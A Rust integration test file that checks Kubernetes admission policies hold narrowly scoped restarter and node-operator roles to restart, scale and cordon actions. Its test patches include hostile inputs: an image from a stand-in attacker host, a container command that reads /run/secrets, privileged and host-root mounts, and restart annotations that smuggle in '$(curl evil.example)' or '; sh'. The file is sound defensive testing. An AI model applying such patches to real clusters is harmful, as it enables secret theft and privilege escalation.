//! Roles that restart or cordon have `patch`, and with it could do anything: the kit pins the rest.

use serde_json::{Value, json};

use super::attacker::{refused, send, send_as, token};
use super::stage::rig;
use crate::harness::{self, Request};

/// What reaches the node is refused by two policies, and the server names whichever was quicker.
const KITS: &str = "ValidatingAdmissionPolicy 'kglass-";
const APPS: &str = "/apis/apps/v1/namespaces/default";

fn workload(kind: &str, name: &str) -> Value {
    let mut object = json!({
        "apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name},
        "spec": {
            "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name}, "annotations": {"keep": "me"}},
                "spec": {"containers": [{"name": "main", "image": "rig.local/busybox:1"}]},
            },
        },
    });
    if kind != "DaemonSet" {
        object["spec"]["replicas"] = json!(1);
    }
    if kind == "StatefulSet" {
        object["spec"]["serviceName"] = json!("x");
    }
    object
}

fn patches() -> Vec<(&'static str, Value)> {
    let template = |spec: Value| json!({"spec": {"template": {"spec": spec}}});
    let container = |extra: Value| {
        let mut c = json!({"name": "main", "image": "rig.local/busybox:1"});
        c.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        template(json!({"containers": [c]}))
    };
    vec![
        ("image", container(json!({"image": "evil.example/x"}))),
        (
            "command",
            container(json!({"command": ["sh", "-c", "cat /run/secrets"]})),
        ),
        ("env", container(json!({"env": [{"name": "A", "value": "b"}]}))),
        (
            "privileged",
            container(json!({"securityContext": {"privileged": true}})),
        ),
        ("service account", template(json!({"serviceAccountName": "admin"}))),
        ("token mount", template(json!({"automountServiceAccountToken": true}))),
        ("host network", template(json!({"hostNetwork": true}))),
        (
            "volumes",
            template(json!({"volumes": [{"name": "h", "hostPath": {"path": "/"}}]})),
        ),
        ("node", template(json!({"nodeName": "x"}))),
        (
            "template labels",
            json!({"spec": {"template": {"metadata": {"labels": {"x": "y"}}}}}),
        ),
        (
            "template annotations",
            json!({"spec": {"template": {"metadata": {"annotations": {"x": "y"}}}}}),
        ),
        (
            "template annotation away",
            json!({"spec": {"template": {"metadata": {"annotations": {"keep": null}}}}}),
        ),
        ("history", json!({"spec": {"revisionHistoryLimit": 0}})),
        ("labels", json!({"metadata": {"labels": {"x": "y"}}})),
        ("annotations", json!({"metadata": {"annotations": {"x": "y"}}})),
        ("finalizers", json!({"metadata": {"finalizers": ["a.b/c"]}})),
        (
            "owners",
            json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "c", "uid": "u"}]}}),
        ),
    ]
}

fn restart() -> Value {
    restart_at("2026-01-01T00:00:00+01:00")
}

fn restart_at(value: &str) -> Value {
    json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": value}}}}})
}

/// What an annotation that everybody reads could carry, were it not a time.
fn no_times() -> Vec<(&'static str, String)> {
    vec![
        ("a command in the restart", "$(curl evil.example)".into()),
        ("a time and more", "2026-01-01T00:00:00Z; sh".into()),
        ("a line below the time", "2026-01-01T00:00:00Z\nx".into()),
        ("a long time", format!("2026-01-01T00:00:00.{}Z", "0".repeat(30))),
        ("nothing", String::new()),
    ]
}

#[test]
fn a_restarter_changes_nothing_but_the_restart() {
    if harness::require().is_none() {
        return;
    }
    let rig = rig();
    let (restarter, _) = token(rig, "oncall", "restarter", 300);
    for (kind, plural) in [
        ("Deployment", "deployments"),
        ("StatefulSet", "statefulsets"),
        ("DaemonSet", "daemonsets"),
    ] {
        let made = send(
            rig,
            "admin",
            "POST",
            &format!("{APPS}/{plural}"),
            &workload(kind, "pinned"),
        );
        assert_eq!(made.status, 201, "{}", made.message());
        let path = format!("{APPS}/{plural}/pinned");
        let mut all = patches();
        if kind != "DaemonSet" {
            all.push(("replicas", json!({"spec": {"replicas": 9}})));
        }
        if kind != "DaemonSet" {
            let counter = json!({"metadata": {"annotations": {"deprecated.daemonset.template.generation": "7"}}});
            all.push(("a counter of another kind", counter));
        }
        if kind == "Deployment" {
            all.push(("paused", json!({"spec": {"paused": true}})));
            all.push((
                "strategy",
                json!({"spec": {"strategy": {"rollingUpdate": {"maxUnavailable": "100%"}}}}),
            ));
        } else {
            all.push((
                "strategy",
                json!({"spec": {"updateStrategy": {"rollingUpdate": null, "type": "OnDelete"}}}),
            ));
        }
        for (what, mut patch) in all {
            refused(
                &format!("{what} of {plural}"),
                &send_as(rig, &restarter, "PATCH", &path, &patch),
                KITS,
            );
            // Hidden beside a restart it is no better.
            merge(&mut patch, restart());
            refused(
                &format!("{what} with restart"),
                &send_as(rig, &restarter, "PATCH", &path, &patch),
                KITS,
            );
        }
        for (what, value) in no_times() {
            refused(
                what,
                &send_as(rig, &restarter, "PATCH", &path, &restart_at(&value)),
                "kglass-restart",
            );
        }
        let ok = send_as(rig, &restarter, "PATCH", &path, &restart());
        assert_eq!(ok.status, 200, "{plural} restart: {}", ok.message());
        if kind != "DaemonSet" {
            let ok = send_as(
                rig,
                &restarter,
                "PATCH",
                &format!("{path}/scale"),
                &json!({"spec": {"replicas": 0}}),
            );
            assert_eq!(ok.status, 200, "{plural} scale: {}", ok.message());
        }
        let put = send_as(rig, &restarter, "PUT", &path, &workload(kind, "pinned"));
        assert_eq!(put.status, 403, "{}", put.message());
        refused(
            "a new one",
            &send_as(
                rig,
                &restarter,
                "POST",
                &format!("{APPS}/{plural}"),
                &workload(kind, "new"),
            ),
            "cannot create",
        );
        send(rig, "admin", "DELETE", &path, &json!({}));
    }
}

fn merge(into: &mut Value, from: Value) {
    match (into, from) {
        (Value::Object(into), Value::Object(from)) => {
            for (key, value) in from {
                merge(into.entry(key).or_insert(Value::Null), value);
            }
        }
        (into, from) => *into = from,
    }
}

#[test]
fn apply_gets_a_restarter_no_further() {
    if harness::require().is_none() {
        return;
    }
    let rig = rig();
    let (restarter, _) = token(rig, "oncall", "restarter", 120);
    let made = send(
        rig,
        "admin",
        "POST",
        &format!("{APPS}/deployments"),
        &workload("Deployment", "applied"),
    );
    assert_eq!(made.status, 201, "{}", made.message());
    let mut evil = workload("Deployment", "applied");
    evil["spec"]["template"]["spec"]["containers"][0]["image"] = json!("evil.example/x");
    let path = format!("{APPS}/deployments/applied");
    let apply = Request::new("PATCH", &format!("{path}?fieldManager=x&force=true"))
        .token(&restarter)
        .body("application/apply-patch+yaml", evil.to_string().into_bytes());
    refused(
        "server-side apply",
        &rig.send(&apply).expect("an answer"),
        "kglass-restart",
    );
    let json_patch = json!([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil"}]);
    let patch = Request::new("PATCH", &path)
        .token(&restarter)
        .body("application/json-patch+json", json_patch.to_string().into_bytes());
    refused("JSON patch", &rig.send(&patch).expect("an answer"), "kglass-restart");
    send(rig, "admin", "DELETE", &path, &json!({}));
}

#[test]
fn a_node_operator_cordons_and_changes_nothing_else() {
    if harness::require().is_none() {
        return;
    }
    let rig = rig();
    let node =
        json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "pinned-node", "labels": {"keep": "me"}}});
    let made = send(rig, "admin", "POST", "/api/v1/nodes", &node);
    assert_eq!(made.status, 201, "{}", made.message());
    let (operator, _) = token(rig, "lead", "node-operator", 120);
    let path = "/api/v1/nodes/pinned-node";
    for (what, patch) in [
        ("labels", json!({"metadata": {"labels": {"x": "y"}}})),
        ("label away", json!({"metadata": {"labels": {"keep": null}}})),
        ("annotations", json!({"metadata": {"annotations": {"x": "y"}}})),
        ("finalizers", json!({"metadata": {"finalizers": ["a.b/c"]}})),
        (
            "taints",
            json!({"spec": {"taints": [{"key": "x", "effect": "NoExecute"}]}}),
        ),
        (
            "address",
            json!({"spec": {"podCIDR": "10.9.0.0/24", "podCIDRs": ["10.9.0.0/24"]}}),
        ),
        ("provider", json!({"spec": {"providerID": "x://y"}})),
    ] {
        refused(what, &send_as(rig, &operator, "PATCH", path, &patch), "kglass-cordon");
    }
    for unschedulable in [json!(true), Value::Null, json!(true)] {
        let ok = send_as(
            rig,
            &operator,
            "PATCH",
            path,
            &json!({"spec": {"unschedulable": unschedulable}}),
        );
        assert_eq!(ok.status, 200, "{}", ok.message());
    }
    let status = send_as(
        rig,
        &operator,
        "PATCH",
        &format!("{path}/status"),
        &json!({"status": {"phase": "x"}}),
    );
    assert_eq!(status.status, 403, "{}", status.message());
    send(rig, "admin", "DELETE", path, &json!({}));
}
